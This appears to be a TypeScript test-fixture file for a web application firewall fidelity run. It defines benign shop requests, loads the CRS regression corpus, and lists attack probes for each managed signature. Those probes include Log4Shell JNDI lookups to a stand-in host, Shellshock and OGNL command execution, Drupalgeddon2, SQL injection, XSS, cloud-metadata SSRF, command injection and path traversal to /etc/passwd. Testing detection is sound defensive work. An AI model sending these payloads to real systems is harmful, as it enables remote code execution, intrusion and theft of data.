import { loadCorpus } from '@cairn/seclang/crs-regression/ftw';
import { corpusDir } from '@cairn/seclang/crs-regression/runner';

/** A request of the fidelity run, before it is aimed at a zone. */
export interface Probe {
  kind: 'benign' | 'crs' | 'signature';
  name: string;
  method: string;
  url: string;
  headers: [string, string][];
  body?: Buffer;
}

const ua: [string, string] = [
  'user-agent',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
];
const get = (name: string, url: string, headers: [string, string][] = []): Probe => ({
  kind: 'benign',
  name,
  method: 'GET',
  url,
  headers: [ua, ['accept', 'text/html,application/xhtml+xml'], ...headers],
});

/** Browser and API traffic a shop and its API send every day. */
export const BENIGN: readonly Probe[] = [
  get('home', '/'),
  get('product list', '/products?page=2&sort=price'),
  get('search', '/search?q=hiking+boots&size=42'),
  get('admin page', '/admin/orders?status=open'),
  get('login page', '/login'),
  get('static asset', '/static/app.3f2a1c.js'),
  get('api item', '/api/items/12345', [['accept', 'application/json']]),
  get('ajax', '/api/cart', [['x-requested-with', 'XMLHttpRequest']]),
  {
    kind: 'benign',
    name: 'contact form',
    method: 'POST',
    url: '/contact',
    headers: [ua, ['content-type', 'application/x-www-form-urlencoded']],
    body: Buffer.from('name=Ada+Lovelace&message=Two+tents%2C+please.'),
  },
  {
    kind: 'benign',
    name: 'api order',
    method: 'POST',
    url: '/api/orders',
    headers: [ua, ['content-type', 'application/json']],
    body: Buffer.from(JSON.stringify({ items: [{ sku: 'TENT-2', qty: 1 }], note: 'leave at the door' })),
  },
];

const attack = (name: string, url: string, headers: [string, string][] = [], body?: string): Probe => ({
  kind: 'signature',
  name,
  method: body === undefined ? 'GET' : 'POST',
  url,
  headers: [
    ...(headers.some(([n]) => n === 'user-agent') ? [] : [ua]),
    ...headers,
    ...(body === undefined
      ? []
      : [['content-type', 'application/x-www-form-urlencoded'] as [string, string]]),
  ],
  ...(body === undefined ? {} : { body: Buffer.from(body) }),
});

/** An attack aimed at each managed signature (by slug). */
export const SIGNATURE_ATTACKS: readonly Probe[] = [
  attack('path-traversal-path', '/static/..%2F..%2Fapp.conf'),
  attack('path-traversal-query', '/download?file=../../secret.txt'),
  attack('lfi-system-files', '/view?page=/etc/passwd'),
  attack('log4j-uri', '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D'),
  attack('log4j-headers', '/', [['x-api-version', ['$', '{jndi:ldap://e.example/a}'].join('')]]),
  attack('log4j-body', '/login', [], `user=${['$', '{jndi:ldap://e.example/a}'].join('')}`),
  attack('log4j-obfuscated', '/', [
    ['referer', ['$', '{', '$', '{lower:j}ndi:ldap://e.example/a}'].join('')],
  ]),
  attack('log4j-obfuscated-body', '/login', [], 'user=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%7D'),
  attack('shellshock-uri', '/cgi-bin/test?x=()%20%7B%20:;%20%7D;%20/bin/id'),
  attack('struts-ognl-content-type', '/upload.action', [['content-type', "%{(#_='multipart/form-data')}"]]),
  attack(
    'wordpress-xmlrpc-multicall',
    '/xmlrpc.php',
    [],
    '<methodCall><methodName>system.multicall</methodName></methodCall>',
  ),
  attack('joomla-config-disclosure', '/api/index.php/v1/config/application?public=true'),
  attack('shellshock-headers', '/cgi-bin/status', [['x-probe', '() { :; }; echo; /bin/id']]),
  attack('probe-database-admin', '/phpmyadmin/index.php'),
  attack('probe-dotenv', '/.env'),
  attack('probe-git', '/.git/config'),
  attack('probe-tomcat-manager', '/manager/html'),
  attack('probe-spring-actuator', '/actuator/env'),
  attack('struts-open-redirect', '/login.action?redirect:http://evil.example/'),
  attack('spring4shell', '/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
  attack('php-stream-wrappers', '/index.php?page=php://filter/resource=index'),
  attack('php-cgi-argument-injection', '/index.php?-d+allow_url_include%3d1'),
  attack('wordpress-config-backup', '/wp-config.php.bak'),
  attack(
    'drupalgeddon2',
    '/user/register?element_parents=account/mail/%23value&ajax_form=1&mail[%23post_render][]=exec',
  ),
  attack('sqli-union-select', "/item?id=1'%20union%20select%20password%20from%20users--"),
  attack('sqli-time-based', '/item?id=1%20and%20sleep(5)'),
  attack('xss-script-tag', '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'),
  attack('xss-event-handler', '/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'),
  attack('ssrf-cloud-metadata', '/fetch?url=http://169.254.169.254/latest/meta-data/'),
  attack('command-injection', '/ping?host=127.0.0.1;cat%20/etc/hostname'),
  attack('scanner-user-agents', '/', [['user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']]),
  attack('confluence-ognl', `/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/`),
  attack('citrix-path-traversal', '/vpns/../vpns/cfg/smb.conf'),
  attack('f5-tmui-traversal', '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp'),
  attack('exchange-proxyshell', '/autodiscover/autodiscover.json?@evil.example/powershell/'),
];

/** The CRS 3.3.4 regression corpus's requests (every test that sends one request). */
export function crsCorpus(): Probe[] {
  return loadCorpus(corpusDir()).map((t) => ({
    kind: 'crs',
    name: `${t.file} ${t.title}`,
    method: t.request.method,
    url: t.request.uri,
    headers: t.request.headers
      .filter(([n]) => n.toLowerCase() !== 'host')
      .map(([n, v]): [string, string] => [n, v]),
    ...(t.request.body ? { body: Buffer.from(t.request.body) } : {}),
  }));
}
